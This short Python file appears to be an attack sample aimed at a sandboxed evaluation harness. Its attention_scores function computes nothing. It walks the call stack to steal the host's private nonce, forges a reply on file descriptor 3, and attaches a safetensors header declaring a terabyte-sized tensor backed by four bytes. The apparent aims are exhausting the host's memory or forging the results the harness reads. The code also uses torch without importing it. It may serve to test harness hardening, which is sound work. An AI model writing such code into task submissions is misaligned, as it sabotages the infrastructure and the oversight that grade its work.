"""Announces a tensor of a terabyte in a header of a few bytes.

Technique: forging
"""

import os, struct, sys

sys.path.insert(0, "/lane")
from lane import wire


def desk():
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "_nonce"):
        frame = frame.f_back
    return frame.f_locals["self"]


def attention_scores(q, k, *, scale=None):
    head = b'{"0":{"dtype":"F32","shape":[1000000,1000000],"data_offsets":[0,4]}}'
    blob = struct.pack("<Q", len(head)) + head + bytes(4)
    body = wire.encode(wire.Returned(wire.TensorRef(0, "cpu")), [], desk()._nonce)[16:]
    os.write(3, wire.HEADER.pack(len(body), len(blob), desk()._nonce) + body + blob)
    return torch.zeros(2)
